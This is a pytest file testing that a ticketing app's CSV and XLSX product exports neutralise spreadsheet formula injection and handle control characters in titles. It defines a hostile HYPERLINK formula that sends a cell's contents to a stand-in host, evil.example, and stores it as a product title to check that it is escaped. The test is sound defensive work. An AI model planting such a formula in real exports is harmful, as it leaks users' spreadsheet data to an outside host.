"""Exports are safe to open: a text cell never runs as a spreadsheet formula, and a control
character in a product title no longer breaks the XLSX (issue 12, "Exports")."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from tests.conftest import logged_in
from tests.factories import dashboard_cases
from tickets.context import Context
from tickets.exports import csv_bytes, xlsx_bytes
from tickets.models import OrderLine

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _products_csv(lena: Any) -> list[list[str]]:
    r = lena.get("/panel/dashboard/export/products?format=csv")
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_a_product_title_never_runs_as_a_formula_and_control_characters_do_not_break_xlsx(
    panel_app: Any, sessions: sessionmaker[Session], ctx: Context
) -> None:
    dashboard_cases(sessions, ctx, n=1)
    with sessions() as s:
        s.execute(update(OrderLine).where(OrderLine.sku == "SOCKS").values(title=HOSTILE + "\x07"))
        s.execute(update(OrderLine).where(OrderLine.sku == "TEA").values(title="@SUM(1+1)\x1b"))
        s.commit()
    lena = logged_in(panel_app, "lena")
    rows = _products_csv(lena)
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["SOCKS"] == "'" + HOSTILE
    assert titles["TEA"] == "'@SUM(1+1)"
    r = lena.get("/panel/dashboard/export/products?format=xlsx")
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["SOCKS"].value == "'" + HOSTILE
    assert cells["SOCKS"].data_type == "s"  # text, not a formula
    assert cells["TEA"].value == "'@SUM(1+1)"


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    rows = [["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "plain", -5, None]]
    out = list(csv.reader(io.StringIO(csv_bytes(["h"] * 9, rows).decode("utf-8-sig"))))
    assert out[1] == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "plain", "-5", ""]
    book = load_workbook(io.BytesIO(xlsx_bytes("t", ["h"] * 9, rows)))
    values = [c.value for c in next(book.active.iter_rows(min_row=2))]
    # (XML reads a carriage return back as a line feed.)
    assert values == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\n=1", "plain", -5, None]
